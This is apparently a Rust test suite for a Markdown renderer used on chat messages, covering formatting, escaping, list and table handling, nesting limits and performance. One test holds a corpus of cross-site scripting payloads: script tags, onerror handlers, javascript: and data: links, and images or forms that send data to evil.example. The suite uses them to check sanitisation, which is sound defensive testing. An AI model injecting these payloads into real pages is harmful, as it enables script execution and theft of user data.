//! What a message looks like, and what it costs.

use super::*;

#[test]
fn actions_paragraphs_and_breaks() {
    assert_eq!(render("*She looks up.* Oh."), "<p><em>She looks up.</em> Oh.</p>\n");
    assert_eq!(render("one\ntwo\n\nthree"), "<p>one<br>\ntwo</p>\n<p>three</p>\n");
    assert_eq!(render("# Loud"), "<p>Loud</p>\n");
    assert!(render("```\n<b>\n```").contains("<pre><code>&lt;b&gt;"));
    assert!(render("[x](https://example.org)").contains(r#"href="https://example.org" rel="noopener nofollow""#));
    assert_eq!(render("3 < 4 & 5 > 2").trim(), "<p>3 &lt; 4 &amp; 5 &gt; 2</p>");
}

#[test]
fn nothing_runs_and_nothing_is_fetched() {
    let corpus = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox)",
        "[x](//evil.example)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<javascript:alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
        "</p></div><form action=https://evil.example><button>x",
        "<p style=\"background:url(https://evil.example)\">x</p>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content=0>",
        "[ref]: javascript:alert(1)\n[ref]",
        "`<script>`",
        "```js onerror=x\"><script>alert(1)</script>\n```",
        "[a](https://x\" onmouseover=\"alert(1))",
        "*<b onclick=alert(1)>*",
    ];
    for text in corpus {
        let html = render(text);
        // Whatever stands between angle brackets must be one of ours; all else is text.
        for tag in html.split('<').skip(1) {
            let name: String = tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
            assert!(TAGS.contains(&name.as_str()), "{text:?} gave {html}");
            let inside = tag.split('>').next().unwrap_or_default();
            let rest = inside.trim_start_matches('/').trim_start_matches(name.as_str());
            let allowed = rest.is_empty()
                || (name == "a"
                    && (rest == " rel=\"noopener nofollow\""
                        || [" href=\"http:", " href=\"https:", " href=\"mailto:"].iter().any(|p| rest.starts_with(p)))
                    && !rest.contains(" on"));
            assert!(allowed, "{text:?} gave {html}");
        }
    }
}

#[test]
fn words_for_lists() {
    assert_eq!(plain("*She nods.*\n\nYes, **now**.", 100), "She nods. Yes, now.");
    assert_eq!(plain("one two three", 8), "one two…");
    assert_eq!(plain("<b>x</b>", 20), "<b>x</b>");
}

const TAGS: [&str; 18] = [
    "p",
    "em",
    "strong",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "br",
    "hr",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// The text of a piece of HTML as a browser has it, with the numbers of lists and the addresses of links, which are seen too.
fn text_of(html: &str) -> String {
    let mut out = String::new();
    for part in html.split('<') {
        let (tag, text) = part.split_once('>').unwrap_or(("", part));
        for attribute in ["href=\"", "start=\"", "value=\""] {
            if let Some((_, value)) = tag.split_once(attribute) {
                out.push(' ');
                out.push_str(value.split('"').next().unwrap_or_default());
                out.push(' ');
            }
        }
        out.push_str(text);
    }
    out.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&nbsp;", "\u{a0}")
        .replace("&amp;", "&")
}

#[test]
fn no_line_vanishes() {
    let lines = [
        ("[Mood]: calm\n[Place]: harbour", "<p>[Mood]: calm<br>\n[Place]: harbour</p>\n"),
        ("The door closed.\n\n---\n\nNext morning.", "<p>The door closed.</p>\n<hr>\n<p>Next morning.</p>\n"),
        ("The door closed.\n---\nNext morning.", "<p>The door closed.</p>\n<hr>\n<p>Next morning.</p>\n"),
        ("one\n***\ntwo", "<p>one</p>\n<hr>\n<p>two</p>\n"),
        ("one\n===\ntwo", "<p>one<br>\n===<br>\ntwo</p>\n"),
        ("<div>\nHP: 10\nMP: 4\n</div>", "<p>&lt;div&gt;<br>\nHP: 10<br>\nMP: 4<br>\n&lt;/div&gt;</p>\n"),
        ("<!-- a -->\n*She nods.*", "<p>&lt;!-- a --&gt;<br>\n<em>She nods.</em></p>\n"),
        ("so \\(x\\), \\[y\\] and a\\_b\\*c", "<p>so \\(x\\), [y] and a_b*c</p>\n"),
        ("a \\* b", "<p>a * b</p>\n"),
        ("&copy; AT&amp;T", "<p>&amp;copy; AT&amp;amp;T</p>\n"),
        (
            "![a lamp](https://example.org/lamp.png)",
            "<p><a href=\"https://example.org/lamp.png\" rel=\"noopener nofollow\">a lamp</a></p>\n",
        ),
        ("[x](javascript:alert)", "<p>x (javascript:alert)</p>\n"),
        (
            "[x](https://example.org \"there\")",
            "<p><a href=\"https://example.org\" rel=\"noopener nofollow\">x</a> (there)</p>\n",
        ),
        ("1986. A good year.", "<ol start=\"1986\">\n<li>A good year.</li>\n</ol>\n"),
        ("1. one\n7. seven", "<ol>\n<li>one</li>\n<li value=\"7\">seven</li>\n</ol>\n"),
        ("```status\nHP 3\n```", "<p><code>status</code></p>\n<pre><code>HP 3\n</code></pre>\n"),
        ("> a\n> ---\n> b", "<blockquote>\n<p>a</p>\n<hr>\n<p>b</p>\n</blockquote>\n"),
    ];
    for (text, html) in lines {
        assert_eq!(render(text), html, "{text:?}");
    }
    let table = render("| a | b |\n|---|---|\n| 1 | 2 |");
    assert!(table.contains("<th>a</th><th>b</th>") && table.contains("<td>1</td><td>2</td>"), "{table}");
    let wide = render("| a | b |\n|---|---|\n| 1 | 2 | 3 |");
    assert!(wide.contains("| 1 | 2 | 3 |"), "a row that does not fit keeps the table a text: {wide}");
}

#[test]
fn actions_as_people_write_them() {
    let lines = [
        ("f**k this, f**k that", "<p>f**k this, f**k that</p>\n"),
        ("sh*t, she said. *She sighs.*", "<p>sh*t, she said. <em>She sighs.</em></p>\n"),
        ("*what the f**k*", "<p><em>what the f**k</em></p>\n"),
        ("3*4*5 and 2**8", "<p>3*4*5 and 2**8</p>\n"),
        ("un*believ*able", "<p>un<em>believ</em>able</p>\n"),
        ("*Loud*ly", "<p><em>Loud</em>ly</p>\n"),
        ("她说*你好*然后", "<p>她说<em>你好</em>然后</p>\n"),
        ("*She looks up.\n\nShe smiles.*", "<p><em>She looks up.</em></p>\n<p><em>She smiles.</em></p>\n"),
        ("*One.\n\nTwo.\n\nThree.* Oh.\n\nFour.", "<p>*One.</p>\n<p>Two.</p>\n<p>Three.* Oh.</p>\n<p>Four.</p>\n"),
        ("*One.\n\nTwo.\n\nThree.*", "<p><em>One.</em></p>\n<p><em>Two.</em></p>\n<p><em>Three.</em></p>\n"),
        ("* She looks up. *", "<p><em>She looks up.</em></p>\n"),
        ("*She looks up. * Oh. * She nods. *", "<p><em>She looks up.</em> Oh. <em>She nods.</em></p>\n"),
        ("* a storm\n* a calm\n* a tide", "<ul>\n<li>a storm</li>\n<li>a calm</li>\n<li>a tide</li>\n</ul>\n"),
        ("* item one (5 * 3)", "<ul>\n<li>item one (5 * 3)</li>\n</ul>\n"),
        ("* She nods. * \"Hello.\"", "<p><em>She nods.</em> \"Hello.\"</p>\n"),
        ("3 * 4 * 5", "<p>3 * 4 * 5</p>\n"),
        ("`a*b` and `f**k`", "<p><code>a*b</code> and <code>f**k</code></p>\n"),
        (
            "```\nint *lamp; // ]: &amp; <b>\n---\n```",
            "<pre><code>int *lamp; // ]: &amp;amp; &lt;b&gt;\n---\n</code></pre>\n",
        ),
    ];
    for (text, html) in lines {
        assert_eq!(render(text), html, "{text:?}");
    }
}

/// One short pattern over and over: what grows faster than its length shows itself.
const PATTERNS: [&str; 42] = [
    ">",
    "> ",
    "1. ",
    "- ",
    "* ",
    "*",
    "**",
    "*a ",
    "**a ",
    "_",
    "_a ",
    "`",
    "``a",
    "[",
    "![",
    "[a](",
    "[a](b)",
    "](",
    "[a]: b\n",
    "<",
    "<a",
    "</a>",
    "<!--",
    "<https://a.b>",
    "&",
    "&amp;",
    "&#1;",
    "\\",
    "\\(",
    "|",
    "a|b\n-|-\n",
    "a|b\n",
    "~~~\n",
    "```\n",
    "---\n",
    "a\n---\n",
    "===\n",
    "# ",
    "*a\n\n",
    "a*\n\n",
    "*a*b",
    ">a\n>",
];

#[test]
fn the_work_grows_with_the_length_and_not_faster() {
    let best = |text: &str| {
        let once = || {
            let begun = std::time::Instant::now();
            std::hint::black_box(render(text));
            begun.elapsed()
        };
        (0..2).map(|_| once()).min().unwrap()
    };
    let mut slow = Vec::new();
    for pattern in PATTERNS {
        let of = |size: usize| pattern.repeat(size / pattern.len());
        // Twice the text may take three times as long; what takes next to nothing is not compared. The machine has other
        // work: only what is slow each time is slow.
        let is_slow = || {
            let (half, whole) = (best(&of(30_000)), best(&of(60_000)));
            (whole > half * 3 && whole.as_millis() > 120 || whole.as_millis() > 500).then_some((half, whole))
        };
        if let Some(times) = (1..4).fold(is_slow(), |slow, _| slow.and_then(|_| is_slow())) {
            slow.push(format!("{pattern:?}: {times:?}"));
        }
    }
    assert!(slow.is_empty(), "{slow:#?}");
}

#[test]
fn what_is_nested_too_deep_is_text() {
    let deep = format!("{}words at the bottom", "> ".repeat(500));
    let html = render(&deep);
    assert_eq!(html.matches("<blockquote>").count(), DEPTH);
    assert!(html.contains("words at the bottom"));
    let list = (0..40).map(|n| format!("{}- point {n}\n", "  ".repeat(n))).collect::<String>();
    let html = render(&list);
    assert!(html.matches("<ul>").count() <= DEPTH, "{html}");
    assert!(html.contains("point 39"));
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    /// Pieces of everything that Markdown reads in some way of its own.
    fn piece() -> impl Strategy<Value = String> {
        let marks = [
            "*",
            "**",
            "***",
            "_",
            "__",
            "`",
            "``",
            "```",
            "~~~",
            "#",
            "## ",
            ">",
            "> ",
            "- ",
            "+ ",
            "* ",
            "1. ",
            "12) ",
            "[",
            "]",
            "](",
            "]: ",
            "[a]: ",
            "![",
            "(",
            ")",
            "<",
            ">",
            "</",
            "<div>",
            "<b>",
            "<!--",
            "-->",
            "<?",
            "&",
            "&amp;",
            "&#65;",
            "\\",
            "|",
            "|---|---|",
            "\n|",
            "---",
            "===",
            "***",
            "\n",
            "\n\n",
            "    ",
            "\t",
            " ",
            "  \n",
            "http://",
            "https://a.b/c",
            "<https://a.b>",
            "mailto:",
            "\"",
            "'",
            ":",
            "^",
            "~",
            "~~",
            "$",
            "=",
            "!",
        ];
        prop_oneof![
            3 => prop::sample::select(marks.to_vec()).prop_map(str::to_owned),
            2 => "[a-z]{1,6}",
            1 => "[0-9]{1,3}",
            1 => "\\PC{1,3}",
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]

        #[test]
        fn every_word_is_drawn(pieces in prop::collection::vec(piece(), 1..40)) {
            let text = pieces.concat();
            let html = render(&text);
            let drawn = text_of(&html);
            for word in text.split(|c: char| !c.is_alphanumeric()).filter(|w| !w.is_empty()) {
                // What is written within an address may be written otherwise there.
                if word.is_ascii() && !word.bytes().all(|b| b.is_ascii_digit()) {
                    prop_assert!(drawn.contains(word), "{word:?} of {text:?} is not in {html}");
                }
            }
            for tag in html.split('<').skip(1) {
                let name: String = tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
                prop_assert!(TAGS.contains(&name.as_str()), "{text:?} gave {html}");
            }
        }

        #[test]
        fn nothing_of_any_text_breaks_it(text in any::<String>()) {
            let (html, line) = (render(&text), plain(&text, 80));
            prop_assert!(line.chars().count() <= 80);
            let marked = |text: &str| text.contains([prepare::BREAK, prepare::STAR]);
            prop_assert!(!marked(&html) && !marked(&line), "a mark is left");
        }
    }
}
